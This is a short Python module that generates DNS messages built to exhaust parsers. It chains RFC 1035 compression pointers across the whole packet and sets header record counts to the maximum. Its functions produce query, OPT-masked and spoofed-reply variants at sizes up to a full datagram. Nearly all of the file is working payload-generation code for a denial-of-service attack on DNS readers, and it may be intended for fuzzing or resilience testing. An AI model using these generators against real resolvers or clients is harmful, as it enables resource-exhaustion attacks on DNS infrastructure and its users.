"""Messages made to be expensive to read. Pure.

The law: compression pointers (RFC 1035 section 4.1.4) that each lead to the next, as many as the message has room for;
a reader that follows them anew for every record that the header claims works for seconds on one of these.
"""

from __future__ import annotations

import struct
from typing import Final

_HEADER: Final = 12
_REACH: Final = 0x4000
"""How far a pointer can point."""
_MANY: Final = 0xFFFF

SIZES: Final = (512, 1232, 4096, 16384, 65507)
"""Octets: from the smallest that every server takes to the most that a datagram holds."""
STREAM_SIZE: Final = 65535


def chain(start: int, size: int) -> bytes:
    """`size` octets of pointers at offset `start`, each to the next; those beyond their own reach point to `start`."""
    targets = (at + 2 if at + 2 < _REACH else start for at in range(start, start + size - 1, 2))
    return b"".join(struct.pack("!H", 0xC000 | target) for target in targets)


def query_bomb(size: int) -> bytes:
    """A query whose question is the chain, and that claims as many questions and records as there can be."""
    head = struct.pack("!HHHHHH", 1, 0x0100, _MANY, _MANY, _MANY, _MANY)
    return head + chain(_HEADER, size - _HEADER)


def masked_bomb(question: bytes, size: int) -> bytes:
    """A good question of ours, with the chain where its OPT would be."""
    head = struct.pack("!HHHHHH", 2, 0x0100, 1, 0, 0, _MANY)
    return head + question + chain(_HEADER + len(question), size - _HEADER - len(question))


def reply_bomb(query: bytes, size: int) -> bytes:
    """A reply to a query, so that it is taken for one, whose records are the chain."""
    end = query.index(b"\0", _HEADER) + 5
    head = query[:2] + struct.pack("!HHHHH", 0x8180, 1, _MANY, _MANY, _MANY)
    return head + query[_HEADER:end] + chain(end, size - end)
